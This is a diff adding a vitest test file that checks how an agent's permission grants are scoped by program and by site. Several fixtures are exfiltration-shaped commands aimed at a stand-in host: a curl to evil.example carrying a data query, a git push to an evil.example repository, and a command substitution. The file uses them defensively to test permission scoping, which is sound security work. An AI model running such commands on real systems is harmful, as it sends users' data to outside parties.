@@ -1,0 +1,35 @@
+// What a chat grant covers (docs/security.md, "Decisions and rules"): a URL call's site, a command's program and the
+// sites its words name.
+import { describe, expect, it } from 'vitest';
+import { canonicalArgument } from './canonical-argument';
+import { grantScope } from './call-site';
+
+const scope = (tool: string, args: Record<string, unknown>) =>
+  grantScope(args, canonicalArgument(tool, args, { workspace: '/w' }));
+const command = (line: string) => scope('run_command', { command: line });
+
+describe('grantScope', () => {
+  it('keeps one program together, apart from other programs and from other sites', () => {
+    expect(command('npm test')).toBe(command('npm run build'));
+    expect(command('npm test')).not.toBe(command("curl -s 'https://evil.example/?d=x'"));
+    expect(command('git commit -m one')).toBe(command('git commit -m two'));
+    expect(command('git commit -m one')).not.toBe(command('git push https://evil.example/r.git main'));
+    expect(command('git push origin main')).not.toBe(command('git push https://evil.example/r.git main'));
+    expect(command("curl -s 'https://api.example.com/v1'")).toBe(
+      command("curl -s 'https://api.example.com/v2'"),
+    );
+    expect(command("curl -s 'https://api.example.com/v1'")).not.toBe(
+      command("curl -s 'https://evil.example/?d=x'"),
+    );
+    expect(command("curl -H 'A: b' https://api.example.com/")).not.toBe(
+      command("curl -H 'A: b' https://evil.example/"),
+    );
+    expect(command('echo $(cat x)')).toBeNull();
+  });
+
+  it('takes the site of a URL call', () => {
+    expect(scope('fetch_page', { url: 'https://docs.python.org/3/' })).toBe('https://docs.python.org');
+    expect(scope('open_file', { target: 'https://evil.example/?d=1' })).toBe('https://evil.example');
+    expect(scope('fetch_page', { url: 'https://a@evil.example/' })).toBeNull();
+  });
+});
